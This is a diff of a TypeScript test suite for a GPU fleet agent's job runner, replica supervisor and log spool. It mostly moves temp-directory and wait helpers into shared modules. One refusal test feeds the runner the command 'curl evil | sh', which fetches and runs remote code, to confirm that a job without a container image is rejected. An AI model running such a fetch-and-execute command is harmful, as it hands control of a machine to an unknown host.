@@ -1,8 +1,7 @@
 import { randomUUID } from "node:crypto";
-import { mkdtempSync, readFileSync } from "node:fs";
+import { readFileSync } from "node:fs";
 import http from "node:http";
 import type { AddressInfo } from "node:net";
-import os from "node:os";
 import path from "node:path";
 import fc from "fast-check";
 import { afterEach, describe, expect, it } from "vitest";
@@ -11,20 +10,14 @@ import { DockerLauncher, dockerClientEnv, dockerRunArgs, limitsFor, RefusedSpec,
 import { Lease } from "@/agent/src/lease";
 import { LogSpool } from "@/agent/src/log-spool";
 import { Outbox } from "@/agent/src/outbox";
-import { PlacementBook } from "@/agent/src/placement-book";
+import { PlacementBook, placementKey } from "@/agent/src/placement-book";
 import { ReplicaSupervisor } from "@/agent/src/replica-supervisor";
 import { containerName, Runner } from "@/agent/src/runner";
-import { placementKey, type JobAssignment, type ReplicaAssignment } from "@/lib/fleet/assignments";
+import type { JobAssignment, ReplicaAssignment } from "@/lib/fleet/assignments";
 import { dockerStandin } from "../support/docker-standin";
+import { tempDir } from "../support/temp-dir";
+import { until } from "../support/wait";
 
-const until = async (ok: () => boolean, ms = 5_000) => {
-  const end = Date.now() + ms;
-  while (!ok()) {
-    if (Date.now() > end) throw new Error("timed out waiting");
-    await new Promise((r) => setTimeout(r, 20));
-  }
-};
-const tmp = (p: string) => mkdtempSync(path.join(os.tmpdir(), p));
 const limits = { cpus: 8, memoryMb: 65_536, pids: 16_384 };
 
 const spec = (o: Partial<ContainerSpec> = {}): ContainerSpec => ({
@@ -171,7 +164,7 @@ describe("the runner, with a docker stand-in on PATH", () => {
   it("runs each job in a container with exactly the expected command line, reports exit codes with the placement, captures output, and never hands docker the agent key", async () => {
     const docker = dockerStandin();
     const launcher = new DockerLauncher(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_secret" }));
-    const a = agentParts(tmp("agent-"), launcher);
+    const a = agentParts(tempDir("agent-"), launcher);
     const ok = job("ok", { gpu_ids: ["g0", "g2"], command: "echo epoch 1 done; echo warn >&2" });
     const bad = job("bad", { command: "exit 7", attempt: 3 });
     a.runner.reconcile([ok, bad]);
@@ -197,7 +190,7 @@ describe("the runner, with a docker stand-in on PATH", () => {
 
   it("refuses, without running anything, a command with no image and an assignment naming GPUs the node lacks", async () => {
     const docker = dockerStandin();
-    const a = agentParts(tmp("agent-"), new DockerLauncher(docker.env));
+    const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
     a.runner.reconcile([job("no-image", { image: undefined, command: "curl evil | sh" }), job("wrong-gpu", { gpu_ids: ["g9"] })]);
     expect(a.outbox.pending.map((r) => [r.job_id, r.status, r.exit_code])).toEqual([["no-image", "failed", 125], ["wrong-gpu", "failed", 125]]);
     expect(a.outbox.pending[0]!.error).toMatch(/runs only inside a container image/);
@@ -206,7 +199,7 @@ describe("the runner, with a docker stand-in on PATH", () => {
 
   it("reports a container the engine refused to start (exit 125) as failed with the reason", async () => {
     const docker = dockerStandin({ refuseImages: ["private.example/secret:1"] });
-    const a = agentParts(tmp("agent-"), new DockerLauncher(docker.env));
+    const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
     a.runner.reconcile([job("denied", { image: "private.example/secret:1" })]);
     await until(() => a.outbox.pending.length === 1);
     expect(a.outbox.pending[0]).toMatchObject({ status: "failed", exit_code: 125, error: expect.stringContaining("refused") });
@@ -214,7 +207,7 @@ describe("the runner, with a docker stand-in on PATH", () => {
 
   it("stops a job the control plane no longer assigns, without a report; the lease lapsing stops it with an interrupted report", async () => {
     const docker = dockerStandin();
-    const a = agentParts(tmp("agent-"), new DockerLauncher(docker.env));
+    const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
     const taken = job("taken", { command: "sleep 30" });
     const fenced = job("fenced", { command: "sleep 30", attempt: 2 });
     a.runner.reconcile([taken, fenced]);
@@ -246,7 +239,7 @@ describe("a job's outputs, posted by the workload itself", () => {
     try {
       const docker = dockerStandin();
       const launcher = new DockerLauncher(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_secret" }));
-      const dir = tmp("agent-");
+      const dir = tempDir("agent-");
       const runner = new Runner({
         book: new PlacementBook(path.join(dir, "placements.json")),
         outbox: new Outbox(path.join(dir, "exit-reports.json")),
@@ -329,7 +322,7 @@ async function stubControlPlane(jobs: JobAssignment[]) {
 describe("a finished placement is never started again (the agent's tick: logs, reports, then the heartbeat)", () => {
   it("a job that finishes just before a heartbeat whose report has not arrived yet is not started a second time", async () => {
     const docker = dockerStandin();
-    const dir = tmp("agent-");
+    const dir = tempDir("agent-");
     const a = agentParts(dir, new DockerLauncher(docker.env));
     const hi = job("hi", { command: "echo hi" });
     const cp = await stubControlPlane([hi]);
@@ -351,7 +344,7 @@ describe("a finished placement is never started again (the agent's tick: logs, r
 
   it("an agent restarted between the exit and its report does not run the job again, and reports it once", async () => {
     const docker = dockerStandin();
-    const dir = tmp("agent-");
+    const dir = tempDir("agent-");
     const hi = job("hi", { command: "echo hi" });
     const cp = await stubControlPlane([hi]);
     const process1 = mortal(new DockerLauncher(docker.env));
@@ -371,7 +364,7 @@ describe("a finished placement is never started again (the agent's tick: logs, r
 
   it("an agent restarted while the container runs finds it again and reports its real exit once", async () => {
     const docker = dockerStandin();
-    const dir = tmp("agent-");
+    const dir = tempDir("agent-");
     const slow = job("slow", { command: "sleep 0.5; exit 4" });
     const cp = await stubControlPlane([slow]);
     const process1 = mortal(new DockerLauncher(docker.env));
@@ -390,7 +383,7 @@ describe("a finished placement is never started again (the agent's tick: logs, r
 
   it("a container lost while the agent was away is reported interrupted (requeued without a retry), not started again", async () => {
     const docker = dockerStandin();
-    const dir = tmp("agent-");
+    const dir = tempDir("agent-");
     const lost = job("lost", { command: "sleep 30" });
     const process1 = mortal(new DockerLauncher(docker.env));
     agentParts(dir, process1.launcher).runner.reconcile([lost]);
@@ -475,7 +468,7 @@ describe("placements start at most once under any interleaving (property)", () =
     );
     await fc.assert(
       fc.asyncProperty(fc.integer({ min: 1, max: 4 }), fc.array(step, { maxLength: 40 }), async (jobCount, steps) => {
-        const dir = tmp("agent-prop-");
+        const dir = tempDir("agent-prop-");
         const engine = new FakeEngine();
         // the control plane: each job's current placement; a report ends it when its fence is current
         const cp = new Map(Array.from({ length: jobCount }, (_, i) => [`j${i}`, { attempt: 1, fence: randomUUID(), done: false }]));
@@ -555,7 +548,7 @@ describe("endpoint replicas on the node", () => {
     const docker = dockerStandin({ entrypoint: "sleep 30" });
     const sup = new ReplicaSupervisor({
       launcher: new DockerLauncher(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_agentkey" })),
-      logs: new LogSpool(tmp("spool-")),
+      logs: new LogSpool(tempDir("spool-")),
       baseUrl: "https://cp.example",
       serveImage: "vllm/vllm-openai:v0.6.3",
       gpuIndexOf: (id) => ({ a: 0, b: 1, c: 2 })[id],
@@ -589,7 +582,7 @@ describe("endpoint replicas on the node", () => {
     const reported: string[] = [];
     const sup = new ReplicaSupervisor({
       launcher: new DockerLauncher(docker.env),
-      logs: new LogSpool(tmp("spool-")),
+      logs: new LogSpool(tempDir("spool-")),
       baseUrl: "https://cp.example",
       serveImage: "vllm/vllm-openai:v0.6.3",
       gpuIndexOf: () => 0,
@@ -607,7 +600,7 @@ describe("endpoint replicas on the node", () => {
     const docker = dockerStandin();
     const reported: string[] = [];
     const sup = new ReplicaSupervisor({
-      launcher: new DockerLauncher(docker.env), logs: new LogSpool(tmp("spool-")), baseUrl: "https://cp", serveImage: undefined,
+      launcher: new DockerLauncher(docker.env), logs: new LogSpool(tempDir("spool-")), baseUrl: "https://cp", serveImage: undefined,
       gpuIndexOf: () => 0, limits: () => limits, reportUnhealthy: async (a, reason) => void reported.push(reason),
     });
     sup.reconcile([replica("r1", ["a"])]);
@@ -618,7 +611,7 @@ describe("endpoint replicas on the node", () => {
 
 describe("the log spool", () => {
   it("cuts output into sequenced chunks at line ends, resends until acknowledged (across restarts), caps what waits, and drops a stale placement", async () => {
-    const dir = tmp("spool-");
+    const dir = tempDir("spool-");
     const spool = new LogSpool(dir, { capBytes: 64 });
     spool.open("k1", { path: "/api/jobs/j1/logs", attempt: 1, fence: "f1" });
     spool.write("k1", "stdout", Buffer.from("line one\nline t"));
